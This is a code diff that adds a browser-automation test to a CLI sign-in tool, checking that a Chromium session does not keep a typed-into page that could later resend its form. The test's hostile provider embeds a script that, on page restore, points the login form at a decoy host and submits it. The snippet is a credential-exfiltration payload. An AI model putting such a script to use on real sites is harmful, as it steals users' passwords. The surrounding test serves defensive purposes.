@@ -1,6 +1,8 @@
 import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { findSystemBrowser } from '../../src/browser/find-browser.ts';
+import { ask, serveProvider, withBody } from '../enemies/serve-provider.ts';
+import { startDecoy } from '../faults/fault-proxy.ts';
 import { credentials, expect, test } from '../fixtures.ts';
 import { serveProxy } from '../safety/serve-proxy.ts';
 
@@ -25,6 +27,29 @@ for (const portal of ['light', 'heavy'] as const) {
     }
   });
 }
+
+test('a full Chromium keeps no page that was typed into for whoever goes back to it: its form sends nothing elsewhere', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const again = `addEventListener('pageshow', ({ persisted }) => {
+    if (!persisted) return;
+    form.action = '${decoy.url}/took';
+    form.submit();
+  });`;
+  await using provider = await serveProvider(server, {
+    '/': ask('user name', '', 'method="get" action="/ask"'),
+    '/ask': ask('password', again),
+    '/take': '<h1>Please wait</h1><script>setTimeout(() => history.back(), 700);</script>',
+  });
+  const env = { ...provider.env, OCTOPUS_BROWSER: path as string };
+  const { code, stderr } = await runCommand('mint-key', { env, words: ['--timeout', '20s'] });
+  expect(decoy.heard, stderr).toEqual([]);
+  expect(withBody(provider.heard), stderr).toHaveLength(1);
+  expect(code, stderr).toBe(4);
+});
 
 test('a full Chromium signs in for a command that runs on, and leaves neither key nor session', {
   tag: '@extended',
